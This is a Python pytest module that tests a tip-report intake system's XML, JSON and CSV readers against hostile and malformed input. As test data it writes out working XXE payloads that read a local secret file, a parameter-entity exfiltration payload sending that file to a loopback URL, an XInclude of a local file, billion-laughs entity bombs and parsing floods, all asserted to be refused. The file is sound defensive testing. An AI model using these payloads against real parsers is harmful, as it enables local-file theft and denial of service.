"""Hostile and broken input: every bad document ends as an IntakeError that names its file, in
bounded memory, and nothing of it — least of all a local file an entity points at — is stored.

Each hostile document is read in a forked child process with a CPU-time and an address-space
limit, so a regression fails this test instead of hanging or exhausting the machine. The child
measures its peak resident memory while reading (Linux: the peak is reset through
/proc/self/clear_refs, then read from VmHWM), which covers libxml2's own allocations as well.
Wall-clock time is never asserted.
"""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import resource
import sys
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, select

from tiptriage import pipeline
from tiptriage.accounts.actor import Actor
from tiptriage.db import Base
from tiptriage.intake import compression, parsing
from tiptriage.intake.domain import FileHash, Identifier, Parsed, ParsedReport, ReportedFile, ReportedPerson
from tiptriage.intake.errors import IntakeError
from tiptriage.intake.formats import csv_lists, cybertip, read_file, tiptriage_json
from tiptriage.intake.models import FileHashRow, FileRow, QuarantineEntry, Report, ReportedPersonRow

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="memory is measured through /proc")

PEAK_LIMIT = 120 * 2**20  # a 10 MB value is held a few times over (bytes, text, field); floods took 460 MB to 1 GB
CPU_SECONDS = 60
HEADROOM = 1024 * 1024 * 1024  # address space the child may add before allocations fail
MARKER = "MARKER-d41d8cd98f00b204-SECRET"
MD5 = "0123456789abcdef0123456789abcdef"


# --- running a reader in a bounded child process -------------------------------------------------

def _status_kb(key: str) -> int:
    with open("/proc/self/status") as fh:
        for line in fh:
            if line.startswith(key + ":"):
                return int(line.split()[1])
    raise LookupError(key)


@dataclass
class Run:
    items: list
    peak_bytes: int

    @property
    def errors(self) -> list[IntakeError]:
        return [i for i in self.items if isinstance(i, IntakeError)]

    @property
    def reports(self) -> list[ParsedReport]:
        return [i.report for i in self.items if isinstance(i, Parsed)]


def bounded(path: str, data: bytes) -> Run:
    """`read_file(path, data)` in a forked child: its items and how much its resident memory grew."""
    from tiptriage.intake.formats import read_file

    rfd, wfd = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: never returns into pytest
        try:
            os.close(rfd)
            resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))
            limit = _status_kb("VmSize") * 1024 + HEADROOM
            resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
            with open("/proc/self/clear_refs", "w") as fh:
                fh.write("5")  # reset the peak resident set size
            before = _status_kb("VmRSS")
            items = list(read_file(path, data))
            peak = (_status_kb("VmHWM") - before) * 1024
            payload = pickle.dumps(("ok", items, peak))
        except BaseException as exc:  # noqa: BLE001 - reported to the parent, which fails the test
            payload = pickle.dumps(("crash", f"{type(exc).__name__}: {exc}"[:2000], 0))
        with os.fdopen(wfd, "wb") as out:
            out.write(payload)
        os._exit(0)
    os.close(wfd)
    with os.fdopen(rfd, "rb") as inp:
        payload = inp.read()
    _, status = os.waitpid(pid, 0)
    assert os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0, f"the reader process died (status {status})"
    kind, items, peak = pickle.loads(payload)
    assert kind == "ok", f"the reader crashed: {items}"
    assert peak < PEAK_LIMIT, f"reading took {peak / 2**20:.0f} MB"
    return Run(items, peak)


def refused(path: str, data: bytes) -> IntakeError:
    run = bounded(path, data)
    assert [type(i).__name__ for i in run.items] == ["IntakeError"], run.items
    err = run.errors[0]
    assert err.path == path and err.message.startswith(f"{path}: ")
    assert len(err.reason) <= 600, "a reason names the problem, it does not carry the document"
    return err


def accepted(path: str, data: bytes) -> ParsedReport:
    run = bounded(path, data)
    assert [type(i).__name__ for i in run.items] == ["Parsed"], [getattr(i, "message", i) for i in run.items]
    return run.reports[0]


# --- documents ------------------------------------------------------------------------------------

def xml(body: str, report_id: str = "4711", head: str = '<?xml version="1.0" encoding="UTF-8"?>') -> bytes:
    return f"{head}<report><reportId>{report_id}</reportId>{body}</report>".encode()


@pytest.fixture
def secret(tmp_path) -> Path:
    """A local file no report may ever leak: its content is the marker."""
    path = tmp_path / "secret.txt"
    path.write_text(MARKER + "\n")
    return path


def entity_attacks(secret: Path) -> dict[str, bytes]:
    uri = secret.as_uri()
    dtd = secret.with_suffix(".dtd")
    dtd.write_text(f'<!ENTITY leak SYSTEM "{uri}">\n<!ENTITY plain "{MARKER}">\n')
    return {
        "xxe-general": f'<?xml version="1.0"?><!DOCTYPE report [<!ENTITY xxe SYSTEM "{uri}">]>'
                       f"<report><reportId>&xxe;</reportId></report>".encode(),
        "xxe-in-value": f'<!DOCTYPE report [<!ENTITY xxe SYSTEM "{uri}">]><report><reportId>1</reportId>'
                        f"<incidentSummary><incidentType>&xxe;</incidentType></incidentSummary></report>".encode(),
        "external-dtd": f'<!DOCTYPE report SYSTEM "{dtd.as_uri()}">'
                        f"<report><reportId>&plain;</reportId></report>".encode(),
        "parameter-entity": f'<!DOCTYPE report [<!ENTITY % ext SYSTEM "{dtd.as_uri()}"> %ext;]>'
                            f"<report><reportId>&leak;</reportId></report>".encode(),
        "parameter-entity-exfiltration": (
            f'<!DOCTYPE report [<!ENTITY % file SYSTEM "{uri}">'
            f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://127.0.0.1:9/?x=%file;\'>">%eval;%exfil;]>'
            f"<report><reportId>1</reportId></report>").encode(),
        "network-dtd": b'<!DOCTYPE report SYSTEM "http://127.0.0.1:9/report.dtd">'
                       b"<report><reportId>1</reportId></report>",
    }


def test_entity_and_dtd_attacks_are_refused_and_leak_nothing(secret):
    for name, data in entity_attacks(secret).items():
        run = bounded(f"{name}.xml", data)
        assert [type(i).__name__ for i in run.items] == ["IntakeError"], (name, run.items)
        err = run.errors[0]
        assert err.path == f"{name}.xml"
        assert "DTD" in err.reason or "malformed XML" in err.reason, (name, err.reason)
        assert MARKER not in repr(run.items) and MARKER not in err.message, name


def test_an_xinclude_is_refused_not_followed_nor_dropped(secret):
    data = xml(f'<incidentSummary><incidentType>Enticement<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
               f'href="{secret.as_uri()}" parse="text"/></incidentType></incidentSummary>')
    err = refused("xinclude.xml", data)
    assert "XInclude" in err.reason and MARKER not in repr(err.__reduce__())


def _laughs(levels: int = 10, fan: int = 10) -> bytes:
    decl = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * fan}">' for i in range(1, levels))
    body = f"<report><reportId>&lol{levels - 1};</reportId></report>"
    return f'<?xml version="1.0"?><!DOCTYPE report [{decl}]>{body}'.encode()


@pytest.mark.parametrize("name, data, reason", [
    ("billion-laughs", _laughs(), "DTD|amplification"),
    ("quadratic-blowup", b'<!DOCTYPE r [<!ENTITY a "' + b"x" * 50_000 + b'">]><report><reportId>'
     + b"&a;" * 50_000 + b"</reportId></report>", "DTD|amplification"),
    ("deep-nesting", xml("<a>" * 100_000 + "</a>" * 100_000), "depth|more than 200,000 tags"),
    ("deep-nesting-unclosed", xml("<a>" * 150_000), "depth"),
    ("huge-text", xml("<incidentSummary><incidentType>" + "x" * 12_000_000 + "</incidentType></incidentSummary>"),
     "too long|limit"),
    ("huge-attribute", xml('<fileDetails><originalFileHash hashType="' + "A" * 12_000_000 + f'">{MD5}'
                           "</originalFileHash></fileDetails>"), "limit"),
    ("long-name", xml("<" + "n" * 200_000 + "/>"), "malformed XML"),
    ("invalid-utf8", xml("<incidentSummary><incidentType>Kinderporno \xff</incidentType></incidentSummary>")
     .replace("\xff".encode(), b"\xff\xfe"), "malformed XML"),
    ("utf16-declared-utf8-given", xml("", head='<?xml version="1.0" encoding="UTF-16"?>'), "declares encoding UTF-16"),
    ("truncated", xml("<fileDetails><fileName>a.jpg</fileName></fileDetails>")[:-12], "malformed XML"),
    ("two-roots", xml("") + b"<report><reportId>2</reportId></report>", "malformed XML"),
    ("binary", b"<\x00\x01\x02\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "malformed XML"),
    ("not-a-report", b"<html><body>hello</body></html>", "not <report> or <fileDetails>"),
    # a tree costs far more than its text: floods are refused before a tree is built
    ("element-flood", xml("<x/>" * 2_500_000), "more than 200,000 tags"),
    ("attribute-flood", xml("<x " + " ".join(f'a{i}="1"' for i in range(1_000_000)) + "/>"), "more than 200,000 tags"),
])
def test_hostile_documents_are_refused_in_bounded_memory(name, data, reason):
    import re

    err = refused(f"{name}.xml", data)
    assert re.search(reason, err.reason), err.reason


@pytest.mark.parametrize("name, data, field, reason", [
    ("big-text-in-a-field", xml("<incidentSummary><incidentType>" + "x" * 5_000_000
                                + "</incidentType></incidentSummary>"),
     "report/incidentSummary/incidentType", "longer than"),
    ("big-attribute-in-a-field", xml('<fileDetails><originalFileHash hashType="' + "A" * 5_000_000 + f'">{MD5}'
                                     "</originalFileHash></fileDetails>"),
     "fileDetails[1]/originalFileHash[1]@hashType", "longer than"),
    ("missing-report-id", b"<report><incidentSummary><incidentType>x</incidentType></incidentSummary></report>",
     "report/reportId", "missing"),
    ("empty-report-id", xml("", report_id="   "), "report/reportId", "missing"),
    ("february-30", xml("<incidentSummary><incidentDateTime>2023-02-30T10:00:00Z</incidentDateTime>"
                        "</incidentSummary>"), "report/incidentSummary/incidentDateTime", "not an ISO 8601"),
    ("year-1850", xml("<reportedAt>1850-05-01T00:00:00Z</reportedAt>"), "report/reportedAt", "out of range"),
    ("year-2999", xml("<fileDetails><uploadedToEspTimestamp>2999-01-01T00:00:00Z</uploadedToEspTimestamp>"
                      "</fileDetails>"), "fileDetails[1]/uploadedToEspTimestamp", "out of range"),
    ("birth-1850", xml("<personOrUserReported><personOrUserReportedPerson><dateOfBirth>1850-01-01</dateOfBirth>"
                       "</personOrUserReportedPerson></personOrUserReported>"),
     "personOrUserReported[1]/personOrUserReportedPerson/dateOfBirth", "impossible date of birth"),
    ("hash-type-missing", xml(f"<fileDetails><originalFileHash>{MD5}</originalFileHash></fileDetails>"),
     "fileDetails[1]/originalFileHash[1]@hashType", "missing"),
])
def test_bad_values_are_refused_naming_report_and_field(name, data, field, reason):
    err = refused(f"{name}.xml", data)
    assert err.field == field and reason in err.reason, err.message
    if field != "report/reportId":
        assert err.report_id == "4711"


def test_a_hash_tiptriage_cannot_match_is_kept_beside_the_file_not_a_reason_to_refuse_the_report():
    """The schema allows any hash type and any text as its value: a report valid against it is
    read, and what cannot be matched is kept for the analyst (and in the raw copy)."""
    data = xml(f'<fileDetails><originalFileHash hashType="MD5">{MD5[:-2]}</originalFileHash>'
               f'<originalFileHash hashType="PhotoDNA">AbC+/==</originalFileHash>'
               f'<originalFileHash hashType="SHA1">{"ab" * 20}</originalFileHash></fileDetails>')
    [item] = list(read_file("hashes.xml", data))
    f = item.report.files[0]
    assert [(h.hash_type, h.value) for h in f.hashes] == [("sha1", "ab" * 20)]
    assert f.details == (("originalFileHash@hashType", "MD5"), ("originalFileHash", MD5[:-2]),
                         ("originalFileHash@hashType", "PhotoDNA"), ("originalFileHash", "AbC+/=="))


def test_cdata_processing_instructions_and_comments_still_parse():
    data = xml("""<?xml-stylesheet href="x.xsl"?><!-- exported by the platform -->
      <incidentSummary><incidentType>Child <!-- c -->Porno<?pi x?>graphy <![CDATA[<a> & "b"]]></incidentType>
      <reportAnnotations><!-- none --><sextortion/><?pi?></reportAnnotations></incidentSummary>
      <personOrUserReported><personOrUserReportedPerson><firstName><![CDATA[Anne-]]>Fleur</firstName>
      </personOrUserReportedPerson></personOrUserReported>""")
    report = accepted("mixed.xml", data)
    assert report.incident_type == 'Child Pornography <a> & "b"'
    assert report.annotations == ("sextortion",)
    assert report.persons[0].given_name == "Anne-Fleur"


def test_unknown_elements_are_ignored_and_kept_in_the_raw_bytes():
    data = xml("""<futureElement version="9"><nested>value</nested></futureElement>
      <personOrUserReported><personOrUserReportedPerson><firstName>Bram</firstName><shoeSize>44</shoeSize>
      </personOrUserReportedPerson><unknownBlock/></personOrUserReported>""")
    run = bounded("unknown.xml", data)
    (item,) = run.items
    assert isinstance(item, Parsed) and item.raw == data and b"<futureElement" in item.raw
    assert item.report.persons[0].given_name == "Bram"


@pytest.mark.parametrize("root", ['<report xmlns="http://www.missingkids.org/cybertip">',
                                  '<ct:report xmlns:ct="http://www.missingkids.org/cybertip">'])
def test_a_namespaced_report_reads_like_a_plain_one(root):
    plain = xml(f'<personOrUserReported><screenName>sam</screenName></personOrUserReported>'
                f'<fileDetails><originalFileHash hashType="MD5">{MD5}</originalFileHash></fileDetails>')
    close = "</ct:report>" if root.startswith("<ct:") else "</report>"
    namespaced = plain.decode().replace("<report>", root).replace("</report>", close)
    if root.startswith("<ct:"):  # every element in the prefixed namespace
        import re

        namespaced = re.sub(r"<(/?)(?!ct:|\?)([A-Za-z])", r"<\1ct:\2", namespaced)
    assert accepted("ns.xml", namespaced.encode()) == accepted("plain.xml", plain)


def test_a_report_with_thousands_of_files_is_not_mistaken_for_a_flood():
    files = tuple(ReportedFile(f"f{k}", file_name=f"IMG_{k:05d}.jpg", person_ref="p1", action="upload", hashes=(
        FileHash("md5", hashlib.md5(str(k).encode()).hexdigest()),
        FileHash("sha1", hashlib.sha1(str(k).encode()).hexdigest()))) for k in range(3_000))
    report = replace(_report("500001"), files=files)
    assert accepted("big.xml", cybertip.write(report)[0]) == report


@pytest.mark.parametrize("name, data, reason", [
    ("deep.json", b"[" * 400_000 + b"]" * 400_000, "nested too deeply"),
    ("deep-object.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "nested too deeply"),
    ("big-int.json", b'{"format_version": 1, "source": "S", "external_id": "1", "persons": [{"ref": "p1", '
                     b'"age": ' + b"9" * 1_000_000 + b"}]}", "malformed JSON"),
    ("huge-string.json", b'{"format_version": 1, "source": "S", "external_id": "1", "reporter": "'
                         + b"x" * 10_000_000 + b'"}', "does not match the schema"),
    ("huge-field.csv", b"source,report_id,given_name\nS,1," + b"x" * 10_000_000 + b"\n", "malformed CSV"),
    ("object-flood.json", b"[" + b"{}," * 3_000_000 + b"{}]", "more than 500,000 JSON values"),
    ("record-flood.json", json.dumps([{"format_version": 1, "source": "S", "external_id": str(n)}
                                      for n in range(25_000)]).encode(), "more than 20,000"),
    ("row-flood.csv", b"source,report_id\n" + b"S,1\n" * 2_500_000, "more than 100,000 lines"),
    ("wide-row.csv", b"source,report_id\nS,1" + b"," * 10_000_000 + b"\n", "more than 1,000 values"),
])
def test_hostile_json_and_csv_are_refused_in_bounded_memory(name, data, reason):
    err = refused(name, data)
    assert reason in err.reason


# --- through ingest: what is refused leaves nothing behind but its quarantine row ------------------

def _person(n: int) -> ReportedPerson:
    return ReportedPerson(f"p{n}", given_name="Lotte", family_name="de Graaf",
                          identifiers=(Identifier("email", f"lotte{n}@example.nl", True, None),))


def _report(external_id: str, *, files: int = 2, source: str = "NCMEC", fmt: str = "cybertip-xml") -> ParsedReport:
    return ParsedReport(
        source=source, external_id=external_id, format=fmt, incident_type="Child Pornography",
        incident_at=datetime(2023, 5, 1, 12, tzinfo=UTC), persons=(_person(1),),
        files=tuple(ReportedFile(f"f{k}", person_ref="p1", hashes=(
            FileHash("md5", hashlib.md5(f"{external_id}/{k}".encode()).hexdigest()),
            FileHash("sha1", hashlib.sha1(f"{external_id}/{k}".encode()).hexdigest()))) for k in range(1, files + 1)))


def _rows(session) -> dict[str, int]:
    return {model.__tablename__: session.execute(select(func.count()).select_from(model)).scalar_one()
            for model in (Report, ReportedPersonRow, FileRow, FileHashRow, QuarantineEntry)}


def _all_text(session) -> str:
    """Every value of every table, raw report bytes decompressed, as one string to search."""
    out = []
    for table in Base.metadata.sorted_tables:
        for row in session.execute(select(table)).mappings():
            for value in row.values():
                if isinstance(value, bytes | memoryview):
                    value = bytes(value)
                    if "compression" in row:
                        value = compression.decompress(row["compression"], value)
                    value = value.decode("utf-8", "replace")
                out.append(str(value))
    return "\n".join(out)


def test_a_folder_of_good_and_bad_files_stores_exactly_the_good_reports(session, tmp_path, secret):
    folder = tmp_path / "in"
    folder.mkdir()
    good: list[ParsedReport] = []

    def put(name: str, data: bytes | str) -> None:
        (folder / name).write_bytes(data.encode() if isinstance(data, str) else data)

    # good: inline XML, XML with sibling file details, JSON array with a bad record, CSV with bad reports
    inline = _report("100001")
    put("a-inline.xml", cybertip.write(inline)[0])
    split = _report("100002", files=3)
    head, siblings = cybertip.write(split, inline_files=False)
    put("b-split.xml", head)
    for n, doc in enumerate(siblings):
        put(f"b-split.file-{n}.xml", doc)
    good += [inline, split]
    json_good = [_report(x, source="Meldpunt", fmt="tiptriage-json") for x in ("J-1", "J-3")]
    json_bad = _report("J-2", source="Meldpunt", fmt="tiptriage-json")
    records = [json.loads(tiptriage_json.write(r)) for r in (json_good[0], json_bad, json_good[1])]
    records[1]["files"][1]["hashes"][0]["value"] = "not-a-hash"
    put("c-batch.json", json.dumps({"reports": records}))
    good += json_good
    csv_good = _report("C-1", source="Hotline", fmt="csv")
    csv_text = csv_lists.write([csv_good, _report("C-2", source="Hotline", fmt="csv"),
                                _report("C-3", source="Hotline", fmt="csv")]).decode()
    lines = csv_text.splitlines()
    c2 = [i for i, line in enumerate(lines) if ",C-2," in line]
    c3 = [i for i, line in enumerate(lines) if ",C-3," in line]
    lines[c2[1]] = lines[c2[1]].replace(hashlib.md5(b"C-2/2").hexdigest(), "0" * 31)  # bad hash, 2nd row
    lines[c3[0]] += ",surplus"  # ragged
    put("d-list.csv", "\r\n".join(lines) + "\r\n")
    good.append(csv_good)

    # bad files, one of each kind; file name -> (record, field, words of the reason)
    bad = {
        "e-xxe.xml": (entity_attacks(secret)["xxe-general"], None, None, "DTD"),
        "e-dtd.xml": (entity_attacks(secret)["external-dtd"], None, None, "DTD"),
        "f-laughs.xml": (_laughs(), None, None, ""),
        "g-deep.xml": (xml("<a>" * 50_000 + "</a>" * 50_000), None, None, "depth"),
        "h-utf8.xml": (xml("").replace(b"4711", b"47\xff11"), None, None, "malformed XML"),
        "i-noid.xml": (b"<report><incidentSummary/></report>", None, "report/reportId", "missing"),
        "j-date.xml": (xml("<reportedAt>2023-02-30T00:00:00Z</reportedAt>", "200001"), None, "report/reportedAt",
                       "not an ISO 8601"),
        "k-age.xml": (cybertip.write(_report("200002"))[0].replace(b"</personOrUserReportedPerson>",
                                                                   b"<age>300</age></personOrUserReportedPerson>", 1),
                      None, "personOrUserReported[1]/personOrUserReportedPerson/age", "impossible age"),
        "l-longid.xml": (xml("", "7" * 300), None, "report/reportId", "longer than 200"),
        "m-malformed.json": (b'{"format_version": 1, "source": "x", ', None, None, "malformed JSON"),
        "n-deep.json": (b"[" * 100_000 + b"]" * 100_000, None, None, "nested too deeply"),
        "o-longid.json": (json.dumps({"format_version": 1, "source": "S", "external_id": "9" * 5000}).encode(),
                          None, "external_id", "does not match the schema"),
        "p-surrogate.json": (b'{"format_version": 1, "source": "S", "external_id": "S-1", '
                             b'"persons": [{"ref": "p1", "given_name": "Jan\\ud800"}]}', None,
                             "persons/0/given_name", "not valid Unicode"),
        "q-nul.json": (b'{"format_version": 1, "source": "S", "external_id": "S-2", "persons": [{"ref": "p\\u0000"}]}',
                       None, "persons/0/ref", "control characters"),
        "r-empty.csv": (b"", None, "header", "empty file"),
        "s-noheader.csv": (b"report_id,md5\n1," + MD5.encode() + b"\n", None, "header", "lacks column(s) source"),
    }
    for name, (data, *_) in bad.items():
        put(name, data)
    expected = {(f"{folder}/{name}", record, field): reason for name, (_, record, field, reason) in bad.items()}
    expected[(f"{folder}/c-batch.json", 2, "files/1/hashes/0")] = "expected 32 hex digits"
    expected[(f"{folder}/d-list.csv", c2[1] + 1, "md5")] = "expected 32 hex digits"
    expected[(f"{folder}/d-list.csv", c3[0] + 1, None)] = "header has"

    summary = pipeline.ingest(session, [folder], actor=Actor("test-intake"))

    assert (summary.stored, summary.rejected) == (len(good), len(expected)), summary.errors
    stored = session.execute(select(Report.source, Report.external_id)).all()
    assert sorted(stored) == sorted((r.source, r.external_id) for r in good)
    assert _rows(session) == {
        "reports": len(good), "reported_persons": sum(len(r.persons) for r in good),
        "files": sum(len(r.files) for r in good),
        "file_hashes": sum(len(f.hashes) for r in good for f in r.files), "quarantine": len(expected)}
    quarantined = {(q.path, q.record, q.field): q for q in session.execute(select(QuarantineEntry)).scalars()}
    assert set(quarantined) == set(expected)
    for key, words in expected.items():
        assert words in quarantined[key].reason, (key, quarantined[key].reason)
    assert MARKER not in _all_text(session)


def test_a_report_refused_by_its_values_is_not_half_stored_on_either_database(session, tmp_path):
    """The same checks on SQLite and PostgreSQL: a value too long for a column is refused by the
    reader with its field named, not stored by one database and refused by the other."""
    folder = tmp_path / "in"
    folder.mkdir()
    long_postcode = replace(_report("300001"), persons=(replace(_person(1), addresses=()),))
    data = cybertip.write(long_postcode)[0].replace(
        b"</personOrUserReportedPerson>",
        b"<address><zipCode>" + b"1" * 65 + b"</zipCode></address></personOrUserReportedPerson>")
    (folder / "postcode.xml").write_bytes(data)
    (folder / "fileref.xml").write_bytes(cybertip.write(replace(_report("300002"), files=(
        ReportedFile("f" * 201, person_ref="p1", hashes=(FileHash("md5", MD5),)),)))[0])
    (folder / "ok.xml").write_bytes(cybertip.write(_report("300003"))[0])

    summary = pipeline.ingest(session, [folder], actor=Actor("test-intake"))

    assert (summary.stored, summary.rejected) == (1, 2), summary.errors
    fields = sorted(q.field for q in session.execute(select(QuarantineEntry)).scalars())
    assert fields == ["fileDetails[1]/fileId", "personOrUserReported[1]/personOrUserReportedPerson/address[1]/zipCode"]
    assert _rows(session)["files"] == 2 and _rows(session)["reported_persons"] == 1


def test_a_head_of_many_comments_is_sniffed_in_bounded_time(tmp_path):
    """Pass 1 recognises file-details documents by their head; a head of comments once made its
    pattern backtrack for hours (30 comments). Sniffed in a child with a CPU-time limit."""
    path = tmp_path / "comments.xml"
    path.write_bytes(b"<!-- x -->" * 400 + b"<report><reportId>1</reportId></report>")
    sibling = tmp_path / "commented.file-1.xml"
    sibling.write_bytes(b"<!-- exported -->\n" * 30 + b"<fileDetails><reportId>1</reportId></fileDetails>")
    pid = os.fork()
    if pid == 0:  # the child: never returns into pytest
        code = 1
        try:
            resource.setrlimit(resource.RLIMIT_CPU, (10, 10))
            found = parsing._sniff_chunk([path, sibling], 10_000_000)
            code = 0 if [p.name for p, _ in found] == [sibling.name] else 2
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.WIFEXITED(status), f"the sniffing process was killed (status {status}): it backtracked"
    assert os.WEXITSTATUS(status) == 0, "only the file-details document is recognised as one"
